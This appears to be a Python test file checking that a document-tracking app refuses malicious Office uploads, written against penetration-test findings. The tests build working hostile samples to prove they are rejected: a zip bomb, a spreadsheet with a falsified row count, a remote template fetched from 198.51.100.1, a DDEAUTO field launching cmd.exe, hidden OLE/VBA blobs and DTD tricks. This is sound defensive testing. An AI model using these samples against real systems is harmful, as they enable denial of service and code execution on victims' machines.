"""Finding 1: uploads that cannot stall the app.

Reproductions from the penetration test: a small .docx that inflates to 100 MiB was stored; 130 files
in one save were each inflated before they were counted; the 调度表 import built every cell before it
checked the row limit. Each is refused now, before the expensive part runs.
"""

from __future__ import annotations

import io
import time
import zipfile

import pytest
from openpyxl import Workbook

from tests.services.test_evidence import OFFICE_PARTS, docx_bytes
from tracker.ooxml import OfficeFileError, check_office_zip, office_zip_kind
from tracker.services import limits
from tracker.services.evidence import ZIP_LIMITS, EvidenceError, check_upload, check_uploads
from tracker.services.sheets import SheetError, import_sheet
from tracker.worker import WorkerLimitExceeded, run_limited


def zip_of(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return out.getvalue()


def spread_bomb() -> bytes:
    """The pen test's file: ~150 KB that inflates to 100 MiB in 500 members of 200 KiB each, every
    member under the old 256 KiB ratio floor and the total under the old 100 MiB limit."""
    members = {f"word/media/part{i}.xml": b" " * (200 * 1024) for i in range(500)}
    return zip_of({**OFFICE_PARTS, **members})


def test_a_small_docx_that_inflates_to_100_mib_is_refused():
    bomb = spread_bomb()
    assert len(bomb) < 400 * 1024
    with pytest.raises(EvidenceError, match="压缩炸弹"):
        check_upload("整改报告.docx", bomb)


def test_every_member_counts_against_the_ratio_however_small():
    small = zip_of({**OFFICE_PARTS, "word/styles.xml": b"<a>" + b" " * 60_000 + b"</a>"})
    with pytest.raises(OfficeFileError, match="压缩比"):
        check_office_zip(small, ZIP_LIMITS)


def test_real_word_and_excel_files_pass_the_tighter_limits():
    assert check_upload("说明.docx", docx_bytes("整改情况说明" * 200)).kind.name == "docx"
    book = Workbook()
    for row in range(1, 2000):
        book.active.append([f"第{row}行", row, "按月推进"])
    out = io.BytesIO()
    book.save(out)
    assert check_upload("台账.xlsx", out.getvalue()).kind.name == "xlsx"


class Unreadable(io.BytesIO):
    """A stream that fails the test if anyone reads it: counting and sizing must not."""

    def read(self, *args):
        raise AssertionError("an upload was read before the count and sizes were checked")


def test_more_files_than_a_save_allows_are_refused_before_any_is_read():
    uploads = [(f"材料{i}.docx", Unreadable(b"x" * 100)) for i in range(130)]
    with pytest.raises(EvidenceError, match="每次最多上传 10 个附件"):
        check_uploads(uploads, user_id=1)


def test_a_file_over_the_size_limit_is_refused_by_its_size_before_reading():
    uploads = [("小.pdf", Unreadable(b"%PDF")), ("大.pdf", Unreadable(b"%PDF" + b"0" * (11 * 1024 * 1024)))]
    with pytest.raises(EvidenceError, match="「大.pdf」超过 10 MB"):
        check_uploads(uploads, user_id=1)


def test_a_person_uploading_faster_than_any_clerk_is_told_to_wait():
    pdf = b"%PDF-1.4\n%%EOF\n"
    for _ in range(limits.UPLOADS.limit // 10):
        check_uploads([(f"{i}.pdf", io.BytesIO(pdf)) for i in range(10)], user_id=7)
    with pytest.raises(EvidenceError, match="上传过于频繁"):
        check_uploads([("再一个.pdf", io.BytesIO(pdf))], user_id=7)
    assert check_uploads([("别人.pdf", io.BytesIO(pdf))], user_id=8)  # another person is not held


def test_a_check_that_exhausts_memory_is_stopped_in_its_worker():
    with pytest.raises(WorkerLimitExceeded):
        run_limited(bytearray, 4 * 1024 * 1024 * 1024, memory_bytes=256 * 1024 * 1024)


def test_a_check_that_spins_is_killed_by_its_cpu_limit():
    started = time.monotonic()
    with pytest.raises(WorkerLimitExceeded):
        run_limited(sum, range(10**13), cpu_seconds=1, timeout=30)
    assert time.monotonic() - started < 30  # the CPU limit ended it, not the wall-clock timeout


def test_a_check_that_hangs_is_abandoned_at_its_timeout():
    with pytest.raises(WorkerLimitExceeded, match="超过 1 秒"):
        run_limited(time.sleep, 30, timeout=1)


def test_the_office_check_reports_its_own_refusal_from_the_worker():
    with pytest.raises(OfficeFileError, match="不是 .docx 或 .xlsx"):
        office_zip_kind(zip_of({"a.xml": b"<a/>"}))


def sheet_with_rows(rows: int, declared: str | None = None) -> bytes:
    book = Workbook()
    sheet = book.active
    for _ in range(rows):
        sheet.append(["1.1", "措施", "单位", "2024-05", 50])
    out = io.BytesIO()
    book.save(out)
    if declared is None:
        return out.getvalue()
    # Rewrite the sheet's <dimension> as a crafted file would.
    source = zipfile.ZipFile(io.BytesIO(out.getvalue()))
    members = {i.filename: source.read(i) for i in source.infolist()}
    xml = members["xl/worksheets/sheet1.xml"].decode()
    start = xml.index("<dimension ref=")
    end = xml.index("/>", start) + 2
    members["xl/worksheets/sheet1.xml"] = (
        xml[:start] + f'<dimension ref="{declared}"/>' + xml[end:]
    ).encode()
    return zip_of(members)


def test_a_sheet_declaring_a_million_rows_is_refused_before_its_cells_are_read(loaded, people_scope):
    with pytest.raises(SheetError, match="行数过多"):
        import_sheet(sheet_with_rows(3, declared="A1:E1000000"), people_scope, plan_code="ankang-2023")


def test_a_sheet_that_hides_its_size_is_refused_while_it_is_read(loaded, people_scope, monkeypatch):
    from tracker.services import sheets

    monkeypatch.setattr(sheets, "MAX_ROWS", 500)
    with pytest.raises(SheetError, match="表格过大"):
        import_sheet(sheet_with_rows(800, declared="A1:E2"), people_scope, plan_code="ankang-2023")


def test_waitress_refuses_a_body_larger_than_the_app_accepts(app):
    from tracker.web.serving import server_options

    assert server_options(app)["max_request_body_size"] <= app.config["MAX_CONTENT_LENGTH"] + 64 * 1024


@pytest.mark.parametrize(
    ("members", "reason"),
    [
        ({"word/media/image9.png": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512}, "OLE"),
        (
            {
                "word/vbaData.xml": b"<a/>",
                "word/macros.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 64,
            },
            "OLE",
        ),
        ({"word/embeddings/oleObject1.bin": b"x"}, "嵌入"),
        (
            {
                "word/_rels/settings.xml.rels": b'<Relationships><Relationship Id="r1" Type="http://schemas.'
                b'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
                b'Target="http://198.51.100.1/t.dotm" TargetMode="External"/></Relationships>'
            },
            "外部资源",
        ),
        (
            {
                "word/document.xml": b'<w:document><w:fldSimple w:instr=" DDEAUTO c:\\\\cmd.exe"/></w:document>'
            },
            "DDE",
        ),
        (
            {
                "word/document.xml": b"<w:document><w:instrText>DD</w:instrText><w:instrText>E x</w:instrText></w:document>"
            },
            "DDE",
        ),
        ({"word/x.xml": '<?xml version="1.0" encoding="UTF-16"?><!DocType a>'.encode("utf-16")}, "DTD"),
        ({"word/x.xml": b'<?xml version="1.0" encoding="UTF-7"?><a/>'}, "编码"),
        ({"word/x.xml": "<!DOCTYPE a>".encode("utf-32-le")}, "编码"),
        ({"word/data.bin": b"<?xml version='1.0'?><!ENTITY a 'b'>"}, "DTD"),
    ],
)
def test_active_content_is_refused_with_a_reason(members, reason):
    """Finding 6: OLE objects, VBA under another name, remote templates, DDE and DTD bypasses."""
    with pytest.raises(EvidenceError, match=reason):
        check_upload("材料.docx", zip_of({**OFFICE_PARTS, **members}))
